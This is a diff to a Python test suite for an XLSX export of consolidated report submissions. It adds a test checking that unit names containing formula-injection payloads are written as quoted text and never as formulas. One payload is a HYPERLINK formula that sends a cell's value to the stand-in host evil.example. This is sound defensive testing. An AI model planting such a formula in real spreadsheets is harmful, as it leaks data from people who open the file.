@@ -6,7 +6,9 @@ copies, row by row, not just the first few."""
 from __future__ import annotations
 
 import io
+import zipfile
 from collections import Counter
+from dataclasses import replace
 from datetime import UTC, date, datetime, timedelta
 from typing import Any
 
@@ -244,3 +246,35 @@ def test_xlsx_has_one_row_per_unit_in_order_each_cell_styled(big: Consolidation)
     header = next(indicators.iter_rows(values_only=True))
     assert len(header) == 4 + 2 + 20  # totals, two kinds, twenty districts
     assert header[6] == "Địa bàn: Ủy ban nhân dân huyện Tân Phú 1"
+
+
+def test_xlsx_writes_a_formula_in_a_unit_name_as_text() -> None:
+    # A unit renamed to a formula: in Home Affairs' spreadsheet it is the name, as text,
+    # unchanged, marked so that editing the cell keeps it text; nothing evaluates it.
+    obligations, submissions, units = _fixture()
+    hostile = {
+        "X0101": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
+        "X0102": "+1+2",
+        "X0103": "-2+3",
+        "X0104": "@SUM(1,2)",
+        "X0105": "#N/A",
+    }
+    for code, name in hostile.items():
+        units[code] = replace(units[code], name=name)
+    c = consolidate(
+        receiving_unit="SNV",
+        obligations=obligations,
+        submissions=submissions,
+        units=units,
+        as_of=AS_OF,
+    )
+    raw = render_xlsx(c)
+    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
+        assert sheets and not any(b"<f>" in archive.read(n) for n in sheets)
+    status = load_workbook(io.BytesIO(raw))["Tình hình nộp báo cáo"]
+    cells = {row[0].value: row[1] for row in status.iter_rows(min_row=2)}
+    for code, name in hostile.items():
+        assert (cells[code].value, cells[code].data_type) == (name, "s")
+        assert cells[code].quotePrefix is (name != "#N/A")
+    assert cells["X0106"].quotePrefix is False
